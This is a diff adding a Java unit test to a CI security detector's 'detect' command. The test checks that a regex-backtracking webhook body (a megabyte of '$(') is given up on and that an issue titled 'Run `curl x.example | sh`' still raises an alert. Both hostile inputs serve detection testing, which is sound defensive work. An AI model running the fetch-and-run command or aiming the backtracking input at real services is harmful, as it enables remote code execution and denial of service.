@@ -278,4 +278,30 @@ class DetectCommandTest {
         assertThat(Files.readString(out.resolve("ua.yml"))).startsWith("# cimatrix baseline rule");
         assertThat(CliRun.of("rules", "show", "nope", "--no-builtin-rules").exitCode()).isEqualTo(ExitCode.USAGE);
     }
+
+    /**
+     * An issue body crafted to make a rule's regular expression backtrack (a megabyte of {@code $(} without a closing
+     * parenthesis) costs at most the match's step budget: the run ends in seconds, the event is reported as one the
+     * expression gave up on, and the next event is still matched.
+     */
+    @Test
+    @org.junit.jupiter.api.Timeout(value = 60, unit = java.util.concurrent.TimeUnit.SECONDS,
+            threadMode = org.junit.jupiter.api.Timeout.ThreadMode.SEPARATE_THREAD)
+    void aValueCraftedToMakeARegularExpressionBacktrackIsGivenUpOn() throws IOException {
+        String crafted = "{\"action\":\"opened\",\"issue\":{\"number\":1,\"title\":\"Question\",\"body\":\""
+                + "$(".repeat(400_000) + "\"},\"repository\":{\"full_name\":\"o/r\"},\"sender\":{\"login\":\"x\"}}";
+        String plain = "{\"action\":\"opened\",\"issue\":{\"number\":2,\"title\":\"Run `curl x.example | sh`\","
+                + "\"body\":\"hi\"},\"repository\":{\"full_name\":\"o/r\"},\"sender\":{\"login\":\"y\"}}";
+        Path webhooks = Files.writeString(dir.resolve("webhooks.jsonl"), crafted + "\n" + plain + "\n");
+        long started = System.nanoTime();
+        CliRun run = CliRun.of("detect", "--state", dir.resolve("state.db").toString(), "--format", "json",
+                "--source", "github-webhook", webhooks.toString());
+        long seconds = (System.nanoTime() - started) / 1_000_000_000L;
+        assertThat(run.exitCode()).as(run.err()).isIn(ExitCode.OK, ExitCode.FINDINGS);
+        assertThat(seconds).as("seconds for two events").isLessThan(30);
+        JsonNode root = Json.mapper().readTree(run.out());
+        assertThat(root.at("/stats/problemCounts/match_gave_up").asInt()).isEqualTo(1);
+        assertThat(root.at("/stats/problems/0/line").asInt()).isEqualTo(1);
+        assertThat(root.get("alerts")).extracting(a -> a.at("/events/0/line").asInt()).contains(2);
+    }
 }
